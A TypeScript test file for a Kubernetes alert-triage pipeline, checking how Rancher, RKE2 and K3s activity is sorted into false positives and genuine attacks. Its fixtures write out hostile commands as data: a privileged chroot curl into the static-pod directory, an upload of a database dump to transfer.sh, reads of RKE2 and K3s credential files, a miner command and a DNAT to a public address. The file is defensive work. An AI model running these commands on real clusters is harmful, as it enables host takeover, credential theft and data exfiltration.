/**
 * Context found in the rke2-longhorn-rancher validation scenario, as rule tables: people reaching the cluster through
 * Rancher's impersonating proxy, a Job that poses as an upgrade job, uploads to file-sharing services, RKE2's own
 * credential and static-pod paths — each with the traps it must not fall into.
 */
import { describe, expect, it } from 'vitest';
import type { ExecSession } from '../../../src/cluster/model.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, node, owner, pod, snapshot } from '../../support/cluster.js';

const W1 = 'core-wk-01';
const W2 = 'core-wk-02';
const T = (hms: string) => `2027-09-14T${hms}.000Z`;

const agentDep = owner('Deployment', 'cattle-cluster-agent', 'cattle-system');
const agentRs = owner('ReplicaSet', 'cattle-cluster-agent-5c8d6f7b9', 'cattle-system', { kind: 'Deployment', name: 'cattle-cluster-agent' });
const agent = pod('cattle-cluster-agent-5c8d6f7b9-9xkq2', {
  namespace: 'cattle-system',
  node: W1,
  ip: '10.42.3.9',
  owner: { kind: 'ReplicaSet', name: 'cattle-cluster-agent-5c8d6f7b9' },
  containers: [{ name: 'cluster-register', image: 'rancher/rancher-agent:v2.9.3' }],
});
// Same name and image in an application namespace: not Rancher's agent.
const lookalikeDep = owner('Deployment', 'cattle-cluster-agent', 'tools');
const lookalike = pod('cattle-cluster-agent-77-abcde', { namespace: 'tools', node: W2, ip: '10.42.4.30', owner: { kind: 'Deployment', name: 'cattle-cluster-agent' }, containers: [{ name: 'a', image: 'rancher/rancher-agent:v2.9.3' }] });
const webDep = owner('Deployment', 'storefront', 'shop');
const web = pod('storefront-6c9f7b8d4-q2w8r', { namespace: 'shop', node: W2, ip: '10.42.4.17', owner: { kind: 'Deployment', name: 'storefront' }, containers: [{ name: 'storefront', image: 'registry.example/shop/storefront:4', command: ['node', 'server.js'] }] });
const cartDep = owner('Deployment', 'cart-api', 'shop');
const cart = pod('cart-api-7d9f8c6b5-zt4wq', { namespace: 'shop', node: W2, ip: '10.42.4.21', owner: { kind: 'Deployment', name: 'cart-api' }, containers: [{ name: 'cart-api', image: 'registry.example/shop/cart-api:2', command: ['node', 'dist/main.js'] }] });
// A host-network Job whose own command downloads from a raw address into the kubelet's static-pod directory.
const impostorJob = owner('Job', 'apply-agent-plan-on-core-wk-01-with-1bf75943', 'system-upgrade');
const impostor = pod('apply-agent-plan-on-core-wk-01-with-1bf75943-m4k8s', {
  namespace: 'system-upgrade',
  node: W1,
  hostNetwork: true,
  hostPID: true,
  created: T('11:40:49'),
  phase: 'Succeeded',
  owner: { kind: 'Job', name: 'apply-agent-plan-on-core-wk-01-with-1bf75943' },
  containers: [{ name: 'upgrade', image: 'rancher/rke2-upgrade:v1.30.8-rke2r1', command: ['sh', '-c'], args: ['chroot /host sh -c "curl -fsSL http://198.51.100.40/m.yaml -o /var/lib/rancher/rke2/agent/pod-manifests/m.yaml"'], securityContext: { privileged: true } }],
  statuses: [{ state: { terminated: { exitCode: 0, startedAt: T('11:40:52'), finishedAt: T('11:42:11') } } }],
});
// A CronJob pod whose own command names its SFTP peer.
const syncJob = owner('Job', 'erp-sync-30348660', 'erp');
const sync = pod('erp-sync-30348660-rcprx', {
  namespace: 'erp',
  node: W2,
  ip: '10.42.4.50',
  created: T('11:00:01'),
  phase: 'Succeeded',
  owner: { kind: 'Job', name: 'erp-sync-30348660' },
  containers: [{ name: 'erp-sync', image: 'registry.example/erp/erp-sync:1', command: ['/app/push.sh'], args: ['--sftp-host', '192.0.2.60', '--sftp-port', '2222'] }],
  statuses: [{ state: { terminated: { exitCode: 0, startedAt: T('11:00:03'), finishedAt: T('11:00:40') } } }],
});

const canalDs = owner('DaemonSet', 'rke2-canal', 'kube-system');
const canalPod = (n: string, suffix: string) =>
  pod(`rke2-canal-${suffix}`, {
    namespace: 'kube-system',
    node: n,
    hostNetwork: true,
    owner: { kind: 'DaemonSet', name: 'rke2-canal' },
    containers: [
      { name: 'calico-node', image: 'rancher/hardened-calico:v3.28.2-build20241016', command: ['start_runit'], securityContext: { privileged: true } },
      { name: 'kube-flannel', image: 'rancher/hardened-flannel:v0.25.7-build20241008', command: ['/opt/bin/flanneld', '--ip-masq', '--kube-subnet-mgr'], securityContext: { privileged: true } },
    ],
  });
const canal1 = canalPod(W1, 'k2x9p');
const canal2 = canalPod(W2, '7wq4n');
// The Canal images in a Deployment of an application namespace: not the CNI.
const fakeCanalDep = owner('Deployment', 'net-tools', 'tools');
const fakeCanal = pod('net-tools-6d-abcde', { namespace: 'tools', node: W2, ip: '10.42.4.77', owner: { kind: 'Deployment', name: 'net-tools' }, containers: [{ name: 'calico-node', image: 'rancher/hardened-calico:v3.28.2-build20241016', command: ['start_runit'] }] });
const looping = (name: string, command: string[]) =>
  pod(name, {
    namespace: 'shop',
    node: W2,
    ip: `10.42.4.${name.length + 60}`,
    owner: { kind: 'Deployment', name: name.split('-')[0] },
    containers: [{ name: name.split('-')[0], image: `registry.example/${name.split('-')[0]}:1`, command }],
    statuses: [{ restartCount: 7, state: { waiting: { reason: 'CrashLoopBackOff' } }, lastState: { terminated: { exitCode: 137, reason: 'Error', startedAt: T('12:31:02'), finishedAt: T('12:36:50') } } }],
  });
const recommender = looping('recommender-6b8c9d7f5-h4j2n', ['python3.11', '-m', 'recommender.serve', '--port', '8080']);
const connector = looping('erp-5f6b7c8d9-w2x7k', ['/app/entrypoint.sh']);
// K3s ServiceLB: a DaemonSet per LoadBalancer Service, DNATing its host port to the Service's cluster IP.
const svclbDs = owner('DaemonSet', 'svclb-traefik-3c4a2b1d', 'kube-system');
const svclb = pod('svclb-traefik-3c4a2b1d-x7k2p', { namespace: 'kube-system', node: W1, ip: '10.42.3.3', owner: { kind: 'DaemonSet', name: 'svclb-traefik-3c4a2b1d' }, containers: [{ name: 'lb-tcp-80', image: 'rancher/klipper-lb:v0.4.9', securityContext: { capabilities: { add: ['NET_ADMIN'] } } }] });
const kubernetesSvc = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'kubernetes', namespace: 'default', uid: 'svc-k' }, spec: { clusterIP: '10.43.0.1', clusterIPs: ['10.43.0.1'], ports: [{ name: 'https', port: 443, targetPort: 6443 }] } };
web.spec.serviceAccountName = 'storefront';
agent.spec.serviceAccountName = 'cattle';

const objects = [svclbDs, svclb, recommender, connector, kubernetesSvc, node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), canalDs, canal1, canal2, fakeCanalDep, fakeCanal, agentDep, agentRs, agent, lookalikeDep, lookalike, webDep, web, cartDep, cart, impostorJob, impostor, syncJob, sync];

const PERSON = { user: 'u-5xkq2mhz7b', groups: ['okta_group://platform-sre', 'system:authenticated', 'system:cattle:authenticated'] };
function session(over: Partial<ExecSession>): ExecSession {
  return {
    kind: 'exec',
    user: `system:serviceaccount:cattle-impersonation-system:cattle-impersonation-${PERSON.user}`,
    groups: ['system:serviceaccounts', 'system:serviceaccounts:cattle-impersonation-system', 'system:authenticated'],
    impersonatedUser: PERSON.user,
    impersonatedGroups: PERSON.groups,
    sourceIps: ['10.42.3.9'],
    namespace: 'shop',
    pod: cart.metadata.name,
    container: 'cart-api',
    command: ['sh'],
    tty: true,
    start: T('10:18:30'),
    end: T('10:40:10'),
    code: 101,
    ...over,
  };
}

function verdictWith(sessions: ExecSession[], a: ReturnType<typeof alert>) {
  return triageAlert(a, { index: buildIndex([snapshot(objects, sessions)]) }).verdict;
}
const shellAlert = (cmd: string, time = T('10:21:05')) =>
  alert({ host: W2, time, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: 'sh', commandLine: 'sh' }], container: { id: containerIdOf(cart) } });

describe("people reaching the cluster through Rancher's impersonating proxy", () => {
  it("a command in the person's exec session, forwarded by cattle-cluster-agent", () => {
    const v = verdictWith([session({})], shellAlert('nc -zv redis-master.shop.svc 6379'));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
    expect(v.reasons[0].message).toMatch(/u-5xkq2mhz7b .*through Rancher's authentication proxy/);
  });
  it('trap: the same impersonating identity used from a web pod, not from the proxy', () => {
    expect(verdictWith([session({ sourceIps: [web.status!.podIP!] })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
  });
  it('trap: a look-alike agent (same name and image) in another namespace', () => {
    expect(verdictWith([session({ sourceIps: ['10.42.4.30'] })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
  });
  it("trap: one person's impersonation account impersonating someone else", () => {
    expect(verdictWith([session({ impersonatedUser: 'u-zzzzzzzzzz' })], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
  });
  it('trap: impersonating a service account is not a person', () => {
    const s = session({ user: 'system:serviceaccount:cattle-impersonation-system:cattle-impersonation-u-5xkq2mhz7b', impersonatedUser: 'system:serviceaccount:kube-system:admin' });
    expect(verdictWith([s], shellAlert('nc -zv redis-master.shop.svc 6379')).label).toBe('genuine');
  });
  it("trap: the agent's own cluster-admin account, used without impersonation from a web pod", () => {
    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.4.17'] });
    expect(verdictWith([s], shellAlert('iptables-save -t nat')).label).toBe('genuine');
  });
  it("the agent's token from a pod that runs as another service account is a token used away from its owner", () => {
    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.4.17'] });
    const v = verdictWith([s], shellAlert('id'));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(v.reasons[0].message).toMatch(/runs as service account shop\/storefront/);
  });
  it("trap: the agent's own pod using its own token is no stolen token (still no engineer)", () => {
    const s = session({ user: 'system:serviceaccount:cattle-system:cattle', impersonatedUser: undefined, impersonatedGroups: undefined, sourceIps: ['10.42.3.9'] });
    const v = verdictWith([s], shellAlert('id'));
    expect(v.label).toBe('genuine');
    expect(v.reasons.map((r) => r.message).join(' ')).not.toMatch(/does not belong to/);
  });
  it('trap: an upload of a database dump to a file-sharing service, typed in that very session', () => {
    const v = verdictWith([session({})], shellAlert('curl -sT /tmp/orders_full.sql.gz https://transfer.sh/orders_full.sql.gz', T('10:30:00')));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('traffic from a node address: SNATed pod traffic or a pod acting on the host', () => {
  it('a CronJob pod whose own command names the SFTP peer and port', () => {
    const v = verdictWith([], alert({ time: T('11:00:05'), title: 'ET POLICY SSH session in progress on Unusual Port', network: { srcIp: '10.20.0.22', srcPort: 49830, dstIp: '192.0.2.60', dstPort: 2222 } }));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: the pod whose command names the peer downloads into the static-pod directory through chroot /host', () => {
    const v = verdictWith([], alert({ time: T('11:41:54'), title: 'ET INFO download from dotted-quad host', network: { srcIp: '10.20.0.21', srcPort: 53310, dstIp: '198.51.100.40', dstPort: 80 } }));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe("RKE2 and K3s's own credential and static-pod paths", () => {
  const hostAlert = (cmd: string) => alert({ host: W1, time: T('11:14:18'), process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [{ name: 'sh', commandLine: 'sh' }] });
  it.each([
    'cat /etc/rancher/node/password',
    'cat /var/lib/rancher/rke2/agent/client-kubelet.key',
    'cp /var/lib/rancher/k3s/server/token /tmp/t',
    'cat /etc/rancher/rke2/rke2.yaml',
    'curl -fsSL http://198.51.100.40/m.yaml -o /var/lib/rancher/rke2/agent/pod-manifests/rke2-metrics.yaml',
  ])('%s is an attack indicator', (cmd) => {
    expect(verdictWith([], hostAlert(cmd))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: reading a harmless file under /etc/rancher is not credential access', () => {
    expect(verdictWith([], hostAlert('cat /etc/rancher/rke2/config.yaml')).cause).not.toBe('attack');
  });
});

describe("RKE2's default CNI, Canal: Calico's Felix and Flannel in one DaemonSet", () => {
  it("Felix programming the node's rules", () => {
    const v = verdictWith([], alert({ host: W1, process: { name: 'iptables-nft-restore', commandLine: '/usr/sbin/iptables-nft-restore --noflush --verbose --wait 10' }, ancestors: [{ name: 'calico-node', commandLine: '/usr/bin/calico-node -felix' }], container: { id: containerIdOf(canal1) } }));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('Flannel VXLAN (UDP 8472) between two nodes that both run Canal', () => {
    const v = verdictWith([], alert({ title: 'SURICATA UDPv4 invalid checksum', network: { srcIp: '10.20.0.21', srcPort: 46012, dstIp: '10.20.0.22', dstPort: 8472, protocol: 'udp' } }));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: the same binary from an interactive shell in the Canal container', () => {
    const v = verdictWith([], alert({ host: W2, process: { name: 'iptables-save', commandLine: '/usr/sbin/iptables-save -t nat' }, ancestors: [{ name: 'sh', commandLine: '/bin/sh' }], container: { id: containerIdOf(canal2) } }));
    expect(v.label).toBe('genuine');
  });
  it('trap: the Canal image in an application Deployment', () => {
    const v = verdictWith([], alert({ host: W2, process: { name: 'iptables', commandLine: 'iptables -t nat -F' }, ancestors: [{ name: 'calico-node', commandLine: '/usr/bin/calico-node -felix' }], container: { id: containerIdOf(fakeCanal) } }));
    expect(v.label).toBe('genuine');
  });
  it('trap: UDP 8472 from an address that is no node', () => {
    const v = verdictWith([], alert({ title: 'SURICATA UDPv4 invalid checksum', network: { srcIp: '203.0.113.9', srcPort: 46012, dstIp: '10.20.0.22', dstPort: 8472, protocol: 'udp' } }));
    expect(v.label).toBe('genuine');
  });
});

describe('API clients by design: the Rancher agent reaching the API server', () => {
  const connect = (p: typeof agent, name: string, parent: string, src: string) =>
    alert({ host: p.spec.nodeName, title: 'Contact K8S API Server From Container', process: { name, commandLine: name }, ancestors: [{ name: parent, commandLine: parent }], container: { id: containerIdOf(p) }, network: { srcIp: src, srcPort: 40112, dstIp: '10.43.0.1', dstPort: 443, protocol: 'tcp' } });
  it("the agent's own daemon, through the kubernetes Service", () => {
    expect(verdictWith([], connect(agent, 'agent', 'tini', '10.42.3.9'))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a downloaded kubectl in the agent pod', () => {
    expect(verdictWith([], connect(agent, 'kubectl', 'sh', '10.42.3.9')).label).toBe('genuine');
  });
  it('trap: the same name and image in an application namespace', () => {
    expect(verdictWith([], connect(lookalike, 'agent', 'tini', '10.42.4.30')).label).toBe('genuine');
  });
});

describe('the EDR killing a restart-looping workload (SentinelOne threats name the program by its file)', () => {
  it("the killed process is the container's own entrypoint: ping-pong", () => {
    const a = alert({ host: W2, action: 'killed', process: { name: 'python3.11', path: '/usr/local/bin/python3.11', commandLine: '/usr/local/bin/python3.11 -m recommender.serve --port 8080' }, container: { id: containerIdOf(recommender) } });
    expect(verdictWith([], a)).toMatchObject({ label: 'likely-false-positive', cause: 'ping-pong' });
  });
  it('trap: the killed process in a restart-looping pod is a miner its entrypoint started', () => {
    const a = alert({ host: W2, action: 'killed', process: { name: 'kworkerds', path: '/tmp/.ICE-unix/kworkerds', commandLine: '/tmp/.ICE-unix/kworkerds -o stratum+tcp://198.51.100.77:3333 -u 49QWm2rgn9XQ' }, ancestors: [{ name: 'entrypoint.sh', commandLine: 'entrypoint.sh' }], container: { id: containerIdOf(connector) } });
    expect(verdictWith([], a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('K3s ServiceLB (klipper-lb) forwarding its host port to the Service', () => {
  const dnat = (to: string) =>
    alert({ host: W1, process: { name: 'iptables', commandLine: `iptables -t nat -I PREROUTING ! -s ${to.split(':')[0]}/32 -p TCP --dport 80 -j DNAT --to ${to}` }, ancestors: [{ name: 'entry', commandLine: '/bin/sh /usr/bin/entry' }], container: { id: containerIdOf(svclb) } });
  it("its entry script's DNAT to the Service's cluster IP", () => {
    expect(verdictWith([], dnat('10.43.129.10:80'))).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: the same rule sending the port to a public address (the --to abbreviation of --to-destination)', () => {
    expect(verdictWith([], dnat('203.0.113.50:80'))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});
